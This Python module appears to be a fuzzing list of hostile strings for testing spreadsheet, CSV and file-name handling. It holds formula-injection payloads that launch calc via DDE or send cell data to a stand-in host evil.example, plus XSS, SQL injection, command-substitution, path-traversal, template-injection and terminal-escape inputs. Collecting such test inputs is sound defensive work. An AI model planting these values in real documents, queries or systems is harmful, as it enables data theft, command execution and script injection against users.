"""Texts that have hurt programs: formulas, links, markup, invisible and control characters, injections, odd names. Made by us."""

from collections.abc import Iterator
from itertools import islice, product

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(A1:A9)", "=A1", "==1+1", "=-1+1", "+-1", "@@1", "|calc", "=",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1)", "⁼1+1", "₌1+1", "⁺1+1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x00=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "\x85=1+1", "\u2028=1+1",
    " =1+1", "  +1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1",
    "\u00ad=1+1", "\u2060=1+1", '"=1+1', '"=1+1"', "'=1+1", "''=1+1", '"\'=1+1', "“=1+1", ";=1+1", ",=1+1", "\t\t=1+1",
    "=cmd|' /C calc'!A0", "=cmd|'/c notepad'!_xlbgnm.A1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    '=HYPERLINK("http://evil.example/?x="&A1&A2,"click")', '=HYPERLINK("javascript:alert(1)")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/x.png")', '=RTD("x","","y")', '=CALL("k","e","J",0)',
    "='file:///etc/passwd'#$passwd.A1", "=[http://evil.example/x.xlsx]S!A1", '=EXEC("calc")', "=REGISTER.ID(1,2)",
    "{=1+1}", "=1+1\x00", "=\u200b1+1", "= 1+1", "=LET(a,1,a)", '=FILTERXML(WEBSERVICE("http://evil.example"),"//a")',
)  # fmt: skip
"""What some program calculates, loads or runs when it opens a sheet."""

LINKS = (
    "http://evil.example", "https://evil.example/?q=<x>", "ftp://evil.example", "mailto:a@evil.example", "file:///etc/passwd",
    "internal:Sheet!A1", "external:\\\\host\\share\\file.xlsx", "external:c:/x.xlsx", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "\\\\host\\share", "vbscript:msgbox(1)",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</td></tr></table><h1>x", "<!--",
    "]]>", "<![CDATA[x]]>", "<r><t>x</t></r>", "<r></r>", "<r></is></c><c r=\"Z9\"><f>1+1</f><v>2</v></c><c><is></r>",
    "</t></is></c><f>1+1</f>", "<f>1</f>", "&lt;b&gt;", "&#0;", "&x;", "&amp;amp;", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% raw %}", "_x003D_1+1", "_x0000_", "_xD83D_", "_x005F", "&L&P&[Picture]", "&G", "*[_][?]:/\\",
    '"><a href="javascript:alert(1)">x</a>', "' onmouseover='alert(1)",
)  # fmt: skip
UNSEEN = (
    "E\u200b1", "E\u200c1", "E\u200d1", "\u202eE1", "E\u202d1", "E\u2066x\u20691", "E\u00ad1", "E\ufeff1", "E\u20601", "E\u061c1",
    "E\u180e1", "E\u2028x", "E\u2029x", "E\ufff9x\ufffb", "E\U000e0041", "Еxt-1", "ＥＸＴ-1", "e\u0301", "é", "ﬁ", "ı", "İ", "ß", "ſ",
    "gpj.\u202eexe", "\u05d0\u05d1-1", "👨\u200d👩\u200d👧", "🏳️", "Z̸͙̽a̷l̶g̵o̴", "\u0600x", "日本語", "\U0001f4a9",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1ab", "a\x1bb", "a\x7fb", "a\x80b", "a\x9bb", "a\ufffeb",
    "a\uffffb", "a\r\nb", "a\rb", "a\nb", "a\tb", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b2J", "\x1b]8;;http://evil.example\x07x",
    "a\b\b\bb", "ok\r\nERROR forged line", "ok\n{\"event\": \"run settled\"}", "%n%n%s%x", "%(asctime)s", "{0.__class__}", "\\n\\r",
)  # fmt: skip
INJECTIONS = (
    "O'Brien-7", "' or 1 eq 1 or 'a' eq '", "''", "'", "x' or id eq 'x", "') or ('1' eq '1", "a%27b", "a%2527b", "\\'", "\\", '"',
    "'; DROP TABLE rows; --", "1; ATTACH DATABASE 'x' AS y", "\" OR \"\"=\"", "%", "_", "?1", ":name", "@p", "$1", "NULL", "null",
    "a&pageNumber=9", "a+b c#d?e", "a;b", "a=b", "a/b", "../../admin", "..", ".", "%2e%2e%2f", "%2f", "a%00b", "a?b=c", "a#b", "*",
    "$(id)", "`id`", "; id", "| id", "&& id", "-rf", "--help", "\n.quit",
)  # fmt: skip
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e2", "0x10", "1_000", "٣", "５", "²", "½", "True", "False", "12345678901234567890",
    "-0", "00123", "1.0", "1,000", "1.23457E+14", "#N/A", "#REF!", "#VALUE!", "undefined", "[object Object]", "{}", "[]", '{"a":1}',
)  # fmt: skip
BROKEN = ("a\ud800b", "\udfff", "\ud83d", "\udc00\ud800")
"""Halves of surrogate pairs: no encoding has a place for them."""

BASE = (*FORMULAS, *LINKS, *MARKUP, *UNSEEN, *CONTROLS, *INJECTIONS, *NUMBERS, *BROKEN)


def hostile(count: int = 500) -> tuple[str, ...]:
    """So many different texts: all of the above, then each with something before or after it."""
    return tuple(islice(dict.fromkeys(_all()), count))


def _all() -> Iterator[str]:
    yield from BASE
    for (before, after), text in product((("x", ""), ("", "\n"), (" ", " "), ("'", "'"), ("=", "")), BASE):
        yield before + text + after


FILE_NAMES = (
    "../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\Windows\\x.xlsx", "C:x", "\\\\host\\share\\x", "..", ".", "",
    "~", "~root/x", "-rf", "--help", "a\0b.csv", "a\nb.csv", "a\rb.csv", "\x1b[31m.csv", "\u202efdp.exe", "a\u200bb.csv", "CON", "con.csv",
    "NUL", "COM1.xlsx", "LPT9", "AUX.txt", "a.", "a ", " a", "a:b.csv", "a:$DATA", "a|b", "a*b", "a?b", 'a"b', "a<b>c", "=1+1.csv",
    "+1.csv", "@x.csv", "-1.csv", "＝1.csv", "a&b.csv", "&P&D.csv", "%2e%2e%2f", "a%00b", "$(id).csv", "`id`.csv", "a;b.csv", "a'b.csv",
    "x" * 300, "ü" * 300, "x" * 250 + ".csv", "日本.csv", "a\ud800b.csv", "<script>.csv", "[x].csv", "History", "'x'", "a/b/c.csv",
    "file:///etc/passwd", "http://evil.example/x.csv", "{{7*7}}.csv", "%n%s.csv", "..././x", "a//b", ".hidden", "~$open.xlsx",
)  # fmt: skip
"""Names of files and sheets that have led programs elsewhere."""
